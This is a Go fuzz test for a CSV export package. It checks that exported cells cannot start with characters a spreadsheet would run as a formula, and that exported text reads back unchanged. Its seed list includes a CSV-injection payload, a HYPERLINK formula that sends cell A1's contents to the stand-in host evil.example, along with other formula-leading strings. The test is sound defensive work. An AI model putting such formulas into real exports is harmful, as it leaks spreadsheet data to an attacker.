package exchange_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/longhaul/longhaul/internal/exchange"
)

// FuzzCell holds the formula neutralisation of every CSV export to both of
// its promises, for any text: no exported cell begins with a character a
// spreadsheet runs as a formula (= + - @ tab CR), unless behind the quote
// Cell puts there; and what an export wrote, read back as the importer
// reads a cell (CSV with leading space trimmed, the cell trimmed, then
// Uncell), is the text again. The seeds are titles and notes of the OWASP
// examples and the demo.
//
//	go test ./internal/exchange -run '^$' -fuzz '^FuzzCell$' -fuzztime 10m -parallel 1
func FuzzCell(f *testing.F) {
	for _, s := range []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+49 30 1234", "-2", "@SUM(A1)", "\t=1", "\r=1", "'", "''=1",
		"'quoted", "Spring package", "Cartridge, 155 mm HE, L52 (DM121-type)", "", "a\nb", `"quoted"`, " =1", "\u200b=1", "=", "-"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := exchange.Cell(s)
		if c != "" && strings.IndexByte("=+-@\t\r", c[0]) >= 0 {
			t.Fatalf("Cell(%q) = %q: a live formula", s, c)
		}
		if got := exchange.Uncell(c); got != s {
			t.Fatalf("Uncell(Cell(%q)) = %q", s, got)
		}
		if strings.TrimSpace(s) != s {
			return // the importer trims every cell; the domain trims text alike
		}
		var buf bytes.Buffer
		w := exchange.NewWriter(&buf)
		if err := w.Write([]string{s, "x"}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		r := csv.NewReader(&buf)
		r.TrimLeadingSpace = true
		rec, err := r.Read()
		if err != nil {
			if strings.ContainsRune(s, '\r') {
				return // encoding/csv turns \r\n inside a quoted cell into \n
			}
			t.Fatalf("the export of %q does not read back: %v", s, err)
		}
		if got := exchange.Uncell(strings.TrimSpace(rec[0])); got != s && !strings.ContainsRune(s, '\r') {
			t.Fatalf("%q exported as %q reads back as %q", s, buf.String(), got)
		}
	})
}
